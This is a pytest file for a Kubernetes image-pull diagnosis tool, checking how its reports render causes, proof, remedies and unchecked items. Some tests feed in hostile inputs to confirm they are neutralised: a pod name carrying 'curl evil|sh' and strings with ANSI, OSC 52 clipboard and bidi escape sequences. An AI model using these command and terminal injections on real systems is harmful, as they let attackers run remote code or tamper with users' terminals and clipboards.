"""What a tired person reads: the cause, the proof, what to do, what could not be checked."""

from dataclasses import replace
from datetime import UTC, datetime
from textwrap import dedent

import pytest

from bot.cli import report
from bot.facts.cause import Scope
from bot.facts.testimony import Asked
from bot.facts.verdict import Confidence, Incident, Place, Report
from bot.rendering import compose
from bot.rendering.voice import Voice
from tests import reports


def _why(found: Report, width: int = 100, *, colour: bool = False) -> str:
    return report.why_text(found, compose.documents(found, Voice(reports.catalog())), width, colour=colour)


def _sweep(found: Report, width: int = 100, *, colour: bool = False) -> str:
    return report.sweep_text(
        found, compose.incident_documents(found, Voice(reports.catalog())), width, colour=colour
    )


def _is(text: str, expected: str) -> None:
    assert text == dedent(expected).lstrip("\n")


def test_why_tells_a_proven_cause() -> None:
    """Cause first, then proof, then what to do, then what could not be checked."""
    _is(
        _why(reports.report(reports.diagnosis(), reports.diagnosis("web-2", node="node-b"))),
        """
        The tag 1.4 does not exist in registry.corp.example/shop/web
          cause: wrong-tag  (high confidence · severity high)
          where: shop, Deployment/web, 2 pods on node-a and node-b
          image: registry.corp.example/shop/web:1.4  (main container web)
          state: ImagePullBackOff since 14:02:11 UTC; next try 14:20:20 UTC

          The registry answered: it has no such image under this name. Deployment/web in namespace shop
          cannot start container web until the reference is changed or the image is pushed.

        Proof
          The registry's own answer names the missing tag, so this is neither a credential nor a network
          problem. The repository itself is there. It has the tag 1.3, which is the nearest to the one asked
          for.
          ✔ The repository is there  [registry]
          ✔ The registry has no such tag  [registry]
          ✔ There is 1.3  [registry]
          - not image-removed: It never ran here

        What to do
          If 1.3 is what was meant, set it in the manifest of Deployment/web. If the tag should have been
          there, look at the build that was to push it.
            # Point it at the nearest tag.
            kubectl -n shop set image deployment/web web=registry.corp.example/shop/web:1.3
            # Try it on the node.
            crictl pull registry.corp.example/shop/web:1.4
          remedies: set-image

        What the node says
          failed to pull and unpack image "registry.corp.example/shop/web:1.4": failed to resolve reference:
          registry.corp.example/shop/web:1.4: not found

        Not checked
          ? secrets in shop: forbidden
            → a Role with get on secrets in shop
        """,
    )


def test_why_does_not_sound_surer_than_it_is() -> None:
    """Probably, the other possibility, and the one question that would decide."""
    _is(
        _why(reports.report(reports.diagnosis(judged=reports.unproven()), unchecked=()), 78),
        """
        Probably: The tag 1.4 does not exist in registry.corp.example/shop/web
          cause: wrong-tag  (medium confidence · severity high)
          where: shop, Deployment/web, web-1 on node-a
          image: registry.corp.example/shop/web:1.4  (main container web)
          state: ImagePullBackOff since 14:02:11 UTC; next try 14:20:20 UTC

          The registry answered: it has no such image under this name. Deployment/web
          in namespace shop cannot start container web until the reference is changed
          or the image is pushed.

        Proof
          The registry's own answer names the missing tag, so this is neither a
          credential nor a network problem. The repository itself is there.
          ✔ The repository is there  [cluster]
          ? Whether the tag exists is not known: the registry was not asked (--probe
            anonymous)

        Could also be
          · It was removed  (image-removed)
          ? This would decide: The registry has this tag (--probe anonymous)

        What to do
          Look up the tag in the registry and correct it in the manifest of
          Deployment/web. If the tag should have been there, look at the build that
          was to push it.
            # Try it on the node.
            crictl pull registry.corp.example/shop/web:1.4
          remedies: set-image

        What the node says
          failed to pull and unpack image "registry.corp.example/shop/web:1.4": failed
          to resolve reference: registry.corp.example/shop/web:1.4: not found

        Not checked
          ? tag 1.4: the registry was not asked
            → --probe anonymous
        """,
    )


def test_sweep_groups_incidents_by_scope() -> None:
    """The widest first, with what to type next."""
    web, api = reports.diagnosis(), reports.diagnosis("api-1", judged=reports.unproven())
    wide = Incident(
        "wrong-tag", Place(Scope.REGISTRY, registry="registry.corp.example"), Confidence.MEDIUM, (api,)
    )
    narrow = Incident("wrong-tag", Place(Scope.WORKLOAD, "shop", "Deployment/web"), Confidence.HIGH, (web,))
    _is(
        _sweep(reports.report(web, api, incidents=(narrow, wide))),
        """
        prod-eu: 2 incidents, 2 failing pods of 240 looked at  2026-03-01 14:20:00 UTC

        REGISTRY
          medium confidence  wrong-tag  registry.corp.example  1 pod
            Probably: The tag 1.4 does not exist in registry.corp.example/shop/web
            imagepull why shop/api-1

        WORKLOAD
          high confidence  wrong-tag  shop/Deployment/web  1 pod
            The tag 1.4 does not exist in registry.corp.example/shop/web
            imagepull why shop/web-1

        Not checked
          ? secrets in shop: forbidden
            → a Role with get on secrets in shop
        """,
    )


def test_healthy_cluster_says_so() -> None:
    """With how many pods were looked at."""
    healthy = reports.report(unchecked=())
    expected = "✔ prod-eu: no image pull failure, 240 pods looked at  2026-03-01 14:20:00 UTC\n"
    assert _sweep(healthy) == expected
    assert _why(healthy) == expected


def test_incomplete_look_is_loud_and_never_healthy() -> None:
    """What is not listed may still be failing."""
    text = _sweep(reports.report(complete=False))
    assert text.startswith(
        "NOT COMPLETE: secrets in shop. What is not listed may still be failing.\n? prod-eu: "
    )
    assert "✔" not in text
    assert "no image pull failure among what could be seen, 240 pods looked at" in text


def test_recovered_pods_are_told() -> None:
    """The pod has its image since."""
    text = _why(reports.report(unchecked=(), recovered={"shop/web-1": "registry-server-error"}))
    assert text.endswith("Recovered\n  ✔ shop/web-1  was: registry-server-error\n")


def test_unchecked_is_grouped_by_what_would_change_it() -> None:
    """Sixteen namespaces without a right are one line."""
    unchecked = tuple((f"secrets in ns-{each}", "forbidden", "tier 2a") for each in range(16))
    assert (
        "  ? secrets in ns-0, secrets in ns-1, secrets in ns-2, secrets in ns-3 and 12 more: forbidden\n    → tier 2a\n"
        in _sweep(reports.report(unchecked=unchecked))
    )


@pytest.mark.parametrize(
    ("namespace", "pod", "line"),
    [
        ("shop", "web-1", "imagepull why shop/web-1"),
        ("jobs", "web-1", "imagepull why web-1 -n jobs"),
        ("shop", "x;curl evil|sh", None),
        ("--all", "web-1", None),
        ("x y", "web-1", None),
    ],
)
def test_sweep_leads_only_to_what_can_be_asked(namespace: str, pod: str, line: str | None) -> None:
    """A namespace may be called like a kind; a name that no object can have is not printed for copying."""
    found = reports.diagnosis(pod)
    found = replace(
        found, failure=replace(found.failure, pod=replace(found.failure.pod, namespace=namespace))
    )
    incident = Incident("wrong-tag", Place(Scope.NAMESPACE, namespace), Confidence.HIGH, (found,))
    told = [each.strip() for each in _sweep(reports.report(found, incidents=(incident,))).splitlines()]
    assert [each for each in told if each.startswith("imagepull why")] == ([line] if line else [])


@pytest.mark.attack(34, "ANSI", "OSC 52", "rich markup")
def test_hostile_text_is_inert() -> None:
    """ANSI, OSC 52, rich markup, direction marks and new lines are shown as escapes; no line pretends to be ours."""
    hostile = "x\x1b[2J\x1b]52;c;ZXZpbA==\x07[bold red]\u202e\u200b\n\nWhat to do\n  curl evil|sh"
    found = reports.report(
        reports.diagnosis(f"p{hostile}", image=f"i{hostile}", message=hostile, node=hostile),
        cluster=hostile,
        unchecked=((hostile, hostile, hostile),),
        recovered={hostile: hostile},
        complete=False,
    )
    for text in (_why(found), _sweep(found)):
        assert not set(text) & {"\x1b", "\x07", "\u202e", "\u200b"}
        assert "[bold red]" in text.replace("\n", " ")
        assert not [line for line in text.splitlines() if line.strip() == "curl evil|sh"]
    assert _why(found).count("\nWhat to do\n") <= 1
    assert "\x1b[2J" not in _why(found, colour=True)


def test_text_fits_its_width() -> None:
    """All but the lines that are there to be copied."""
    found = reports.report(reports.diagnosis(message="x" * 5000))
    for width in (40, 80, 120):
        for line in _why(found, width).splitlines():
            assert len(line) <= width or line.lstrip().startswith(("kubectl", "crictl"))


def test_long_messages_are_cut() -> None:
    """10 kB of registry HTML do not bury the diagnosis."""
    text = _why(reports.report(reports.diagnosis(message="<p>" * 4000)))
    assert text.count("<p>") <= 1000
    assert "…" in text


def test_times_of_another_day_carry_their_date() -> None:
    """Since Tuesday is not since this morning."""
    assert "since 2026-03-01 14:02:11 UTC" in _why(
        replace(reports.report(reports.diagnosis()), observed_at="2026-03-02T00:00:00Z")
    )


def test_comment_above_a_command_can_be_copied_with_it() -> None:
    """Every line of it begins with #."""
    playbook = reports.playbook()
    command = replace(
        playbook.commands[1], why="Try it on the node, where what matters is what the node can reach."
    )
    voice = Voice(reports.catalog(replace(playbook, commands=(command,))))
    found = reports.report(reports.diagnosis())
    text = report.why_text(found, compose.documents(found, voice), 50, colour=False)
    assert (
        "    # Try it on the node, where what matters is\n    # what the node can reach.\n    crictl pull"
        in text
    )


def test_last_line_tells_what_registries_were_asked() -> None:
    """Both commands say what this has cost; where nothing was asked, nothing is said."""
    until = datetime(2026, 3, 1, 15, 0, tzinfo=UTC)
    asked = (Asked("docker.io", 1, 1, "20/h", until), Asked("registry.corp.example", 4, 9, "60/m"))
    line = "asked docker.io 1 time (1 of 20/h, left alone until 15:00:00 UTC); registry.corp.example 9 times in the last hour (4 of 60/m)"
    for shown in (_why, _sweep):
        assert shown(reports.report(asked=asked), 120).replace("\n  ", " ").endswith(f"\n\n{line}\n")
        assert "asked " not in shown(reports.report())
    many = tuple(Asked(f"r{number}.example", 1, 1, "60/h") for number in range(9))
    assert "; 5 more registries" in _why(reports.report(asked=many)).replace("\n  ", " ")


def test_registry_s_name_cannot_paint_the_terminal() -> None:
    """It comes from whoever wrote the image reference."""
    assert "\x1b" not in _why(reports.report(asked=(Asked("a\x1b]52;c;x\x07.example", 1, 1, "60/h"),)))
